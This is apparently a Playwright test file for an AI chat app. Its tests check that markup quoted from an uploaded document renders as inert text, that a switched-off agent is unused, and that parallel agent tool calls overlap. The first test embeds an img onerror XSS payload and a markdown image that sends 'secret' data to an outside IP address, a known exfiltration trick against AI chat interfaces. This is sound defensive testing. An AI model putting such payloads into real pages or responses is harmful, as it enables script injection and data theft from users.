import { expect, test } from "@playwright/test";
import { ChatPage } from "../pages/chat-page";
import { KnowledgePage } from "../pages/knowledge-page";

test("markup quoted from a document is shown as text, never run or loaded", async ({ page }) => {
  const knowledge = new KnowledgePage(page);
  await knowledge.open();
  await knowledge.upload(
    "hostile-notes.txt",
    "text/plain",
    'The quarterly launch phrase is <img src="/x.png" onerror="window.__pwned = 1"> purple walrus.\n\n' +
      "Another line mentions ![tracker](http://198.51.100.7/collect?data=secret) for the launch phrase.\n",
  );
  const chat = new ChatPage(page);
  await chat.open();
  await chat.ask("What is the quarterly launch phrase?");
  await expect(chat.lastAnswer()).toContainText("purple walrus");
  await expect(chat.lastAnswer()).toContainText('<img src="/x.png"');
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  await expect(chat.conversation.locator('img[src="/x.png"], img[src^="http://198.51.100.7"]')).toHaveCount(
    0,
  );
});

test("an agent switched off for the conversation is not used", async ({ page }) => {
  const chat = new ChatPage(page);
  await chat.open();
  await page.getByText("Agents", { exact: true }).click();
  await page.getByRole("checkbox", { name: /Image agent/ }).uncheck();
  await chat.ask("Draw a small green frog");
  await expect(chat.lastAnswer()).toContainText("switched off for this conversation");
  await expect(chat.agentLane("Image agent")).toHaveCount(0);
});

test("parallel agents really run at the same time: their tool spans overlap", async ({ page, request }) => {
  const chat = new ChatPage(page);
  await chat.open();
  const response = page.waitForResponse((candidate) => candidate.url().endsWith("/api/chat"));
  await chat.ask("Draw a quiet harbour at night and calculate 365 * 24");
  const traceId = (await response).headers()["x-trace-id"];
  await expect(chat.agentLane("Code interpreter")).toContainText("Result: 8760");
  const trace = (await (await request.get(`/api/traces/${traceId}`)).json()) as {
    spans: Array<{ name: string; startTime: number; endTime: number }>;
  };
  const image = trace.spans.find((span) => span.name === "execute_tool image_agent");
  const code = trace.spans.find((span) => span.name === "execute_tool code_interpreter");
  expect(image && code).toBeTruthy();
  if (!image || !code) return;
  expect(Math.max(image.startTime, code.startTime)).toBeLessThan(Math.min(image.endTime, code.endTime));
});
